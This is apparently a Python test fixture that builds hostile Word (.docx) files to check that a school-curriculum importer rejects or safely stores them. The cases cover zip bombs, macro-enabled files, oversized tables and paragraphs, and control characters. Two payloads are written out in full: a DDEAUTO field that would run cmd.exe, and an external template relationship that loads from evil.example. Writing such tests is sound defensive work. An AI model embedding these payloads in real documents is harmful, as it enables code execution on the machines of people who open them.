"""The hostile Word corpus (issue #12): .docx files built at test time from a good school layout.

Same shape as ``corpus.py``: each ``Case`` is refused (a clear message, the database unchanged) or stored
(every text exactly as written, control characters aside). Big files are small on disk: declared sizes are
patched, long bodies repeat one paragraph, huge tables run against ``ROW_LIMIT``.
"""

from __future__ import annotations

import io
import random
import zipfile

from tests.hostile.corpus import FORMULAS, MARKUP, REJECTED, ROW_LIMIT, STORED, Case, _patch_sizes, _zip
from tests.importing.docx_fixtures import school_docx

CTRL_TEXT = "能遵守安全\u202e操作\u0085规程\u2066"
CTRL_STORED = "能遵守安全操作规程"
_P = '<w:p><w:r><w:t xml:space="preserve">{}</w:t></w:r></w:p>'


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _with_body(extra_xml: str, *, before: str = "五、考核评价") -> bytes:
    """The school layout with ``extra_xml`` (WordprocessingML) inserted before the paragraph ``before``."""
    members = _members(school_docx())
    xml = members["word/document.xml"].decode("utf-8")
    at = xml.rfind("<w:p>", 0, xml.index(before))
    members["word/document.xml"] = (xml[:at] + extra_xml + xml[at:]).encode("utf-8")
    return _zip(members)


def _replace(old: str, new: str) -> bytes:
    members = _members(school_docx())
    xml = members["word/document.xml"].decode("utf-8")
    assert old in xml, old
    members["word/document.xml"] = xml.replace(old, new, 1).encode("utf-8")
    return _zip(members)


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("'", "&apos;")


def _table(rows: int) -> str:
    cell = "<w:tc><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc>"
    body = "".join(f"<w:tr>{cell.format(i)}{cell.format('单元')}</w:tr>" for i in range(rows))
    return f"<w:tbl><w:tblGrid><w:gridCol/><w:gridCol/></w:tblGrid>{body}</w:tbl>"


def _macro_docm() -> bytes:
    members = _members(school_docx())
    members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"Attribute VB_Name" * 10
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml")
    return _zip(members)


def _external() -> bytes:
    members = _members(school_docx())
    rels = members["word/_rels/document.xml.rels"].decode("utf-8")
    link = ('<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="http://evil.example/template.dotm" TargetMode="External"/>')
    members["word/_rels/document.xml.rels"] = rels.replace("</Relationships>", link + "</Relationships>").encode()
    return _zip(members)


def _dde_field() -> str:
    """A DDE field whose instruction would run a command in Word; its shown result is plain text."""
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
            " DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" </w:instrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE 结果</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def docx_cases() -> list[Case]:
    good = school_docx()
    rng = random.Random(21)
    objectives = "（三）素质目标"
    formula_items = "".join(_P.format(f"{n}. 能{_escape(text)}") for n, text in enumerate(FORMULAS, start=3))
    markup_items = "".join(_P.format(f"{n}. 能{_escape(text)}") for n, text in enumerate(MARKUP, start=3))
    return [
        Case("random bytes .docx", "random.docx", rng.randbytes(4096), (REJECTED,)),
        Case("random bytes as zip .docx", "random-zip.docx", b"PK\x03\x04" + rng.randbytes(4096), (REJECTED,)),
        Case("old binary .doc", "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(2048), (REJECTED,)),
        Case("empty .docx", "empty.docx", b"", (REJECTED,)),
        Case("truncated docx", "truncated.docx", good[: len(good) // 2], (REJECTED,)),
        Case("zip without a Word body", "nobody.docx", _zip({"hello.txt": b"hello"}), (REJECTED,)),
        Case("zip bomb (declared 2 GB)", "bomb.docx", _patch_sizes(good, 2_000_000_000), (REJECTED,)),
        Case("zip bomb (patched small sizes)", "patched.docx", _patch_sizes(good, 10), (REJECTED,)),
        Case("zip bomb (real ratio)", "ratio.docx",
             _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:p/>" * (2 * 1024 * 1024)}),
             (REJECTED,)),
        Case("macro-enabled .docm", "macros.docm", _macro_docm(), (REJECTED,)),
        Case("macros in a file named .docx", "macros.docx", _macro_docm(), (REJECTED,)),
        Case("external relationship (ignored)", "external.docx", _external(), (STORED,), ("能说明示教器各按键的功能；",)),
        Case("huge document (paragraphs)", "huge.docx", _with_body(_P.format("段") * 20_001), (REJECTED,)),
        Case("huge table (rows)", "rows.docx", _with_body(_table(ROW_LIMIT + 10)), (REJECTED,)),
        Case("100k-character cell", "long.docx", _replace("安全规程；单轴、线性、重定位运动", "长" * 100_000), (REJECTED,)),
        Case("100k-character paragraph", "longp.docx", _replace("能遵守安全操作规程；", "长" * 100_000), (REJECTED,)),
        Case("malformed XML in the body", "badxml.docx", _replace("<w:body>", "<w:body><w:p><w:r>"), (REJECTED,)),
        Case("control characters", "ctrl.docx", _replace("能遵守安全操作规程；", CTRL_TEXT), (STORED,), (CTRL_STORED,)),
        Case("formula and DDE payloads", "formula.docx",
             _with_body(formula_items + _dde_field(), before=objectives), (STORED,),
             tuple(f"能{f}" for f in FORMULAS)),
        Case("HTML and Markdown payloads", "markup.docx", _with_body(markup_items, before=objectives), (STORED,),
             tuple(f"能{m}" for m in MARKUP)),
    ]
